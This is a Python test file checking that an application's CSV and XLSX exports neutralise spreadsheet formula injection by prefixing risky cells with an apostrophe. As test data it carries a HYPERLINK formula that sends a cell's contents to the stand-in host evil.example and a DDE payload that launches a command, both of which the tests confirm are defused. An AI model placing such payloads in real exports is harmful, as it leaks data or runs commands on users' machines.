"""No exported cell is a formula: text that a spreadsheet would run (=, +, -, @, tab, CR
first) leaves every CSV and XLSX export with an apostrophe in front, while numbers,
negative ones included, stay numbers."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from app.extensions import db
from app.formats.tables import FORMULA_STARTS, neutralise, read_table
from app.services.plan import export as plan_export
from app.services.plan.imports import import_plan
from app.services.reports import excel as report_excel
from tests.plan.test_import_export import HEADER

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
_TREE = "2023;AS1;Imprese;100;OS1;@SUM(A1:A9);100;OP1;+cmd|' /C calc'!A0;A1.1;100"
ROWS = [
    f"{_TREE};I1;{PAYLOAD};Efficienza;n.;>=;-5;-10;50;-7;no;",
    f"{_TREE};I2;-2+3;Efficienza;n.;>=;90;70;50;85;no;",
]


def _imported(support, cycle):
    report = import_plan(support, cycle, "piano.csv", (HEADER + "\n".join(ROWS) + "\n").encode())
    assert report.ok, report.errors
    db.session.commit()
    return cycle.plan


def _dangerous(text: str) -> bool:
    return text.startswith(FORMULA_STARTS) and neutralise(text) != text


def test_neutralise_prefixes_formulas_and_keeps_numbers():
    assert neutralise(PAYLOAD) == "'" + PAYLOAD
    for text in ("+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(text) == "'" + text
    for value in ("-5", "-1.234,56", "+39", "-12,5%", "Normale", -5, 3.5, None, ""):
        assert neutralise(value) == value


def test_plan_csv_export_has_no_formula(support, cycle):
    text = plan_export.to_csv(_imported(support, cycle)).decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(text), delimiter=";"))
    cells = [cell for row in table for cell in row]
    assert not [c for c in cells if _dangerous(c)]
    assert "'" + PAYLOAD in cells and "'-2+3" in cells and "'@SUM(A1:A9)" in cells
    assert "-5" in cells and "-10" in cells  # negative numbers are untouched


def test_plan_xlsx_exports_have_no_formula(support, cycle):
    plan = _imported(support, cycle)
    for content in (plan_export.to_xlsx(plan), report_excel.plan_with_results(cycle)):
        book = load_workbook(io.BytesIO(content))
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        values = [c.value for c in cells]
        assert "'" + PAYLOAD in values and "'+cmd|' /C calc'!A0" in values
        assert not [v for v in values if isinstance(v, str) and _dangerous(v)]
    numbers = [c.value for row in book.worksheets[0].iter_rows() for c in row]
    assert -5 in numbers and -10 in numbers  # the report keeps numbers as numbers


def test_neutralised_cells_import_back_as_the_original_text(support, cycle):
    content = plan_export.to_csv(_imported(support, cycle))
    names = [row["indicator_name"] for row in read_table("piano.csv", content)]
    assert names == [PAYLOAD, "-2+3"]
